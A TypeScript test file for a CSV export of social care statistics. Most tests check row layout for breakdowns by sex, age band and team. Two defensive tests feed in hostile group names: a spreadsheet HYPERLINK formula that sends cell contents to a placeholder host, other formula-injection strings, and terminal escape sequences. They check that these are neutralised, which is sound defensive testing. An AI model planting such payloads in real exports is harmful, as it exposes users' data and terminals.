import { test } from 'node:test';
import assert from 'node:assert/strict';
import { resultsCsv } from './result-csv.ts';
import type { ResultJson } from './result-json.ts';

const row: ResultJson = {
  id: 'x_pct', month: '2026-03', numerator: 2, denominator: 3, value: 66.7, cohort: 3,
  breakdown: { dimension: 'sex', groups: [{ group: 'Male', numerator: 2, denominator: 2, value: 100, cohort: 2 }, { group: 'Female', numerator: 0, denominator: 1, value: 0, cohort: 1 }] },
};

test('without a breakdown there is one row per measure and month, nulls blank', () => {
  const off: ResultJson = { id: 'y', month: '2026-03', numerator: null, denominator: null, value: null, unavailable: 'Needs x, y.', cohort: null };
  assert.equal(resultsCsv([off], false), 'id,month,numerator,denominator,value,cohort,unavailable\ny,2026-03,,,,,"Needs x, y."\n');
});

test('with a breakdown each measure and month has an All row, then a row per group', () => {
  assert.equal(resultsCsv([row], true), [
    'id,month,dimension,group,numerator,denominator,value,cohort,unavailable,note',
    'x_pct,2026-03,sex,All,2,3,66.7,3,,',
    'x_pct,2026-03,sex,Male,2,2,100,2,,',
    'x_pct,2026-03,sex,Female,0,1,0,1,,',
    '',
  ].join('\n'));
});

test('a breakdown that is unavailable for an available measure says why on its own row', () => {
  const off = { ...row, breakdown: { dimension: 'team', groups: [], unavailable: 'Needs the SSD ssd_involvements table.' } };
  assert.match(resultsCsv([off], true), /\nx_pct,2026-03,team,,,,,,Needs the SSD ssd_involvements table\.,\n$/);
});

test('broken down by two dimensions, each measure and month has an All row and groups for each, the dimension named on every row', () => {
  const byAge: ResultJson = { ...row, breakdown: { dimension: 'age_band', groups: [{ group: 'Under 1', numerator: 1, denominator: 1, value: 100, cohort: 1 }] } };
  assert.equal(resultsCsv([row, byAge], true), [
    'id,month,dimension,group,numerator,denominator,value,cohort,unavailable,note',
    'x_pct,2026-03,sex,All,2,3,66.7,3,,',
    'x_pct,2026-03,sex,Male,2,2,100,2,,',
    'x_pct,2026-03,sex,Female,0,1,0,1,,',
    'x_pct,2026-03,age_band,All,2,3,66.7,3,,',
    'x_pct,2026-03,age_band,Under 1,1,1,100,1,,',
    '',
  ].join('\n'));
  assert.throws(() => resultsCsv([{ ...row, breakdown: undefined }], true), /no breakdown/);
});

test('a breakdown’s note (a rate’s groups have no value) is on each of its groups’ rows, as JSON gives it on the breakdown', () => {
  const note = 'A rate per 10,000 needs the population of each group, which carestats does not have: each group shows its count of children only.';
  const rate: ResultJson = {
    id: 'cla_rate', month: '2026-03', numerator: 3, denominator: 20_000, value: 1.5, cohort: 3,
    breakdown: { dimension: 'sex', groups: [{ group: 'Male', numerator: 2, denominator: null, value: null, cohort: 2 }, { group: 'Female', numerator: 1, denominator: null, value: null, cohort: 1 }], note },
  };
  assert.equal(resultsCsv([rate, row], true), [
    'id,month,dimension,group,numerator,denominator,value,cohort,unavailable,note',
    'cla_rate,2026-03,sex,All,3,20000,1.5,3,,',
    `cla_rate,2026-03,sex,Male,2,,,2,,"${note}"`,
    `cla_rate,2026-03,sex,Female,1,,,1,,"${note}"`,
    'x_pct,2026-03,sex,All,2,3,66.7,3,,',
    'x_pct,2026-03,sex,Male,2,2,100,2,,',
    'x_pct,2026-03,sex,Female,0,1,0,1,,',
    '',
  ].join('\n'));
});

test('a group a spreadsheet would open as a formula (a council’s own team or district name) is written as text, and figures stay numbers', () => {
  const groups = ['=HYPERLINK("http://example.invalid/?"&A1,"Open")', '+1+1', '-2+3', '@SUM(A1)', 'North - East', 'O’Brien'];
  const teams: ResultJson = {
    id: 'x_pct', month: '2026-03', numerator: -1, denominator: 3, value: -33.3, cohort: 3,
    breakdown: { dimension: 'team', groups: groups.map((group) => ({ group, numerator: -1, denominator: 1, value: -100, cohort: 1 })) },
  };
  assert.equal(resultsCsv([teams], true), [
    'id,month,dimension,group,numerator,denominator,value,cohort,unavailable,note',
    'x_pct,2026-03,team,All,-1,3,-33.3,3,,',
    `x_pct,2026-03,team,"'=HYPERLINK(""http://example.invalid/?""&A1,""Open"")",-1,1,-100,1,,`,
    "x_pct,2026-03,team,'+1+1,-1,1,-100,1,,",
    "x_pct,2026-03,team,'-2+3,-1,1,-100,1,,",
    "x_pct,2026-03,team,'@SUM(A1),-1,1,-100,1,,",
    'x_pct,2026-03,team,North - East,-1,1,-100,1,,',
    'x_pct,2026-03,team,O’Brien,-1,1,-100,1,,',
    '',
  ].join('\n'));
});

test('a group holding a terminal’s escape sequence or another control character is written with escapes, so printing the CSV cannot rewrite the terminal', () => {
  const groups = ['\x1b[2J\x1b[HTeam', '\tTeam', '\rTeam', 'Team\nTwo', '-\x07'];
  const teams: ResultJson = {
    id: 'cla_count', month: '2026-03', numerator: 5, denominator: null, value: 5, cohort: 5,
    breakdown: { dimension: 'team', groups: groups.map((group) => ({ group, numerator: 1, denominator: null, value: 1, cohort: 1 })) },
  };
  assert.equal(resultsCsv([teams], true), [
    'id,month,dimension,group,numerator,denominator,value,cohort,unavailable,note',
    'cla_count,2026-03,team,All,5,,5,5,,',
    'cla_count,2026-03,team,\\x1b[2J\\x1b[HTeam,1,,1,1,,',
    'cla_count,2026-03,team,\\tTeam,1,,1,1,,',
    'cla_count,2026-03,team,\\rTeam,1,,1,1,,',
    'cla_count,2026-03,team,Team\\nTwo,1,,1,1,,',
    "cla_count,2026-03,team,'-\\x07,1,,1,1,,",
    '',
  ].join('\n'));
});
